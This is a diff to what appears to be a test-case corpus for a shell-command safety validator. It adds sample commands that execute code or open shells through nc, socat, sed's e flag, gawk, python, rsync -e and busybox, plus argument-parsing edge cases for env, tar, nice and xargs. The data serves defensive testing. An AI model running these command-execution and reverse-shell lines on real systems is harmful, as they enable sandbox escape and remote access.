@@ -460,6 +460,29 @@ Rscript -e 'system2("id")'
 Rscript -e 'pipe("id")'
 pdflatex -shell-escape a.tex
 nc -e sh example.org 80
+nc -lve sh
+nc -esh example.org 80
+rsync -ae 'sh -c id' a b
+rsync -aze sh a b
+socat - EXEC:id
+socat - SYSTEM:id
+socat exec:id -
+python -c 'print "a"; import os; os.system("id")'
+python3.11-dbg -c 'import os; os.system("id")'
+ipython -c 'import os; os.system("id")'
+sed --expr='1e id' a
+sed --expr 's/a/b/e' a
+sed --expression 's/a/b/e' a
+sed -ne 's/a/b/e' a
+sed '/a/,/b/e id' a
+sed '\,a,e id' a
+sed '0~3e id' a
+sed 'p;e' a
+sed -n '$!{s/a/b/;e id}' a
+gawk --sour='BEGIN {system("id")}'
+busybox sh -c id
+busybox timeout 5 sh
+setarch x86_64 -R bash
 ncat --sh-exec id example.org 80
 """,
     "TG313": r"""
@@ -943,6 +966,15 @@ find /in -exec {} +
 find /in -exec env {} + -exec {} +
 find /in -exec
 strace --what ls
+env -S python a.py b
+env -S "a'" x
+env --unset
+env -u
+nice -n
+nice --adjustment
+xargs timeout
+setarch x86_64 --what ls
+busybox --list
 stdbuf --what ls
 env env env env env env env env env env env ls
 nice nice nice nice nice nice nice nice nice nice ls
@@ -1025,6 +1057,12 @@ man -P x a
 rg --pre x a
 wget --use-askpass=x https://example.org
 gawk -l x 'BEGIN {}'
+gawk -lx 'BEGIN {}'
+tar -I '' -xf a.tar
+tar -xf a.tar -I
+tar -I "a'" -xf a.tar
+tar --to-nothing=x -xf a.tar
+tar -xYI x -f a.tar
 gawk --load=x 'BEGIN {}'
 ssh -o ProxyCommand=x a
 scp -oProxyCommand=x a b
